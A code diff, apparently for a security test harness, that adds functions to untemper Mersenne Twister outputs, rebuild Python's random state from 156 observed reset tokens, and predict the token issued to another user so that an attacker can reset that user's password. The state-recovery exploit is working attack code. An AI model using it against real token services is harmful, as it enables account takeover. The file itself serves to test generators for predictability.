@@ -1,4 +1,6 @@
-from observe import agreement, unknown_bits
+import random
+
+from observe import agreement, observe, unknown_bits
 
 START = 1_770_112_800.0
 
@@ -47,6 +49,29 @@ def works(code, vary):
 NEEDED_BITS = 96
 
 
+def untemper(word):
+    """The part of the state of `random` from which a number was made."""
+    word ^= word >> 18
+    word ^= word << 15 & 0xEFC60000
+    state = word
+    for _ in range(5):
+        state = word ^ (state << 7 & 0x9D2C5680)
+    word = state
+    for _ in range(3):
+        state = word ^ state >> 11
+    return state & 0xFFFFFFFF
+
+
+def predict(tokens):
+    """What `random` gives next, if it gave these tokens. None if they can't be its numbers."""
+    if any(len(token) != 32 or set(token) - set("0123456789abcdef") for token in tokens):
+        return None
+    words = [int(token, 16) >> shift & 0xFFFFFFFF for token in tokens for shift in range(0, 128, 32)]
+    copy = random.Random()
+    copy.setstate((3, (*map(untemper, words[-624:]), 624), None))
+    return f"{copy.getrandbits(128):032x}"
+
+
 def exploit(code, vary):
     """Mallory asks for tokens of her own. 624 numbers give away the state of `random`, and she knows the time: her copy of the service then makes the same
     token as the service. What is left for her to guess?"""
@@ -63,7 +88,14 @@ def exploit(code, vary):
             "got": f"the tokens {examples}: {bits} bits of each cannot be known. Mallory tries them all and sets a new password for {ada}",
         }
     service = Service(code, ada)
+    drawn = observe()["randomBits"]
     own, following = request(service, "mallory@example.com"), request(service, ada)
+    is_drawn_each_time = observe()["randomBits"] - drawn >= 2 * NEEDED_BITS
     if agreement(own, following) > 0.5:
         return {"sent": f"a request of her own, which got the token {own}", "got": f"{ada} has the token {following}: the own token shows most of it"}
+    if is_drawn_each_time:
+        return False
+    expected = predict([request(service, "mallory@example.com") for _ in range(156)])
+    if request(service, ada) == expected:
+        return {"sent": "156 requests of her own", "got": f"the state of the generator, which shows the token of {ada}: {expected}"}
     return False
